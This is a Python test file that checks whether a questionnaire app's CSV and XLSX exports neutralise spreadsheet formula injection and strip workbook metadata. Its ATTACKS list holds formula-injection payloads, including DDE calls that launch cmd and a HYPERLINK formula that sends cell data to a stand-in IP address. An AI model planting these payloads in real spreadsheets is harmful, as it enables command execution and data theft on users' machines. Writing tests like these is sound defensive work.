"""No cell that leaves is a formula, whatever people wrote; and what they wrote is still there."""

import csv
from dataclasses import replace
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from tests import parcels
from trustcheck.app.ports import Refused
from trustcheck.app.store.export_model import Parcel, PersonalCheck
from trustcheck.domain.checks.round import Promise
from trustcheck.domain.questionnaire.answers import Fact, PracticeAnswer
from trustcheck.exchange.exports import xlsx_lines
from trustcheck.exchange.exports.formats import export_bytes, format_called
from trustcheck.exchange.files.safe_cells import STARTS_A_FORMULA, safe_cell

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"look")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\x0b=1+1",
    "\u2028=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1"',
    '";=1+1;"',
    "a\r\n=1+1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "=" * 4000,
]  # fmt: skip
LOOKALIKES = [
    "_x0041_",
    "_x003D_1",
    "007",
    "1e5",
    "TRUE",
    "2026-11-22",
    " two  blanks ",
    "\u202e=1",
    "e\u0301",
    "\U0001f600",
]


def said_everywhere(text: str) -> Parcel:
    """One check in which everything a person can write is this text."""
    (one,) = parcels.one_of_each().organisations
    personal, team, *_others = one.checks
    assert isinstance(personal, PersonalCheck)
    short = text[:400]
    facts = (PracticeAnswer("K1", Fact.NO, short),)
    promise = Promise(short, parcels.LATER, short)
    personal = replace(personal, notes={"A1": short}, facts=facts, promises=(promise,), leaders_are=short)
    team = replace(team, own_words=short, facts=facts, promises=(promise,))
    return Parcel((replace(one, name=text[:120], checks=(personal, team)),))


def texts_in(parcel: Parcel) -> list[str]:
    """Every cell of both tables that is a text, as another program reads it."""
    rows = list(csv.reader(StringIO(export_bytes(parcel, format_called("csv")).decode("utf-8-sig"), newline="")))
    book = CalamineWorkbook.from_filelike(BytesIO(export_bytes(parcel, format_called("xlsx"))))
    for name in book.sheet_names:
        rows += book.get_sheet_by_name(name).to_python()
    return [cell for row in rows for cell in row if isinstance(cell, str)]


@pytest.mark.parametrize("attack", [*ATTACKS, *LOOKALIKES])
def test_no_attack_stays_a_formula_and_every_word_is_kept(attack: str) -> None:
    found = texts_in(said_everywhere(attack))
    kept = "".join(attack.split())[:100]

    assert [each for each in found if each[:1] in STARTS_A_FORMULA] == []
    assert [each for each in found if each.strip()[:1] in STARTS_A_FORMULA] == []
    assert any(kept.strip("\x0b") in "".join(each.split()) for each in found)


@settings(max_examples=200)
@given(text=st.text(max_size=60) | parcels.hostile)
def test_no_text_at_all_starts_a_formula(text: str) -> None:
    cell = safe_cell(text)

    assert isinstance(cell, str)
    assert cell[:1] not in STARTS_A_FORMULA
    assert cell.lstrip()[:1] not in STARTS_A_FORMULA


@settings(max_examples=10)
@given(parcel=parcels.parcels())
def test_no_cell_of_any_export_starts_a_formula(parcel: Parcel) -> None:
    assert [each for each in texts_in(parcel) if each[:1] in STARTS_A_FORMULA] == []


def test_a_workbook_holds_no_formula_no_link_no_author_and_no_clock() -> None:
    with ZipFile(BytesIO(export_bytes(said_everywhere("=1+1"), format_called("xlsx")))) as archive:
        inside = {each: archive.read(each) for each in archive.namelist()}
        times = {each.date_time for each in archive.infolist()}

    assert not any(b"<f>" in each or b"<hyperlink" in each for each in inside.values())
    assert b"<dc:creator></dc:creator>" in inside["docProps/core.xml"]
    assert b"2000-01-01T00:00:00Z" in inside["docProps/core.xml"]
    assert times == {(1980, 1, 1, 0, 0, 0)}


def test_the_workbook_has_three_sheets_with_a_heading_that_stays() -> None:
    content = export_bytes(parcels.one_of_each(), format_called("xlsx"))
    book = CalamineWorkbook.from_filelike(BytesIO(content))

    assert book.sheet_names == ["Answers", "Results", "Promises"]
    with ZipFile(BytesIO(content)) as archive:
        assert all(b'state="frozen"' in archive.read(f"xl/worksheets/sheet{number}.xml") for number in (1, 2, 3))


def test_more_rows_than_a_sheet_has_are_refused_with_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_lines, "MOST_ROWS", 10)

    with pytest.raises(Refused, match="Choose CSV or JSON"):
        export_bytes(parcels.one_of_each(), format_called("xlsx"))
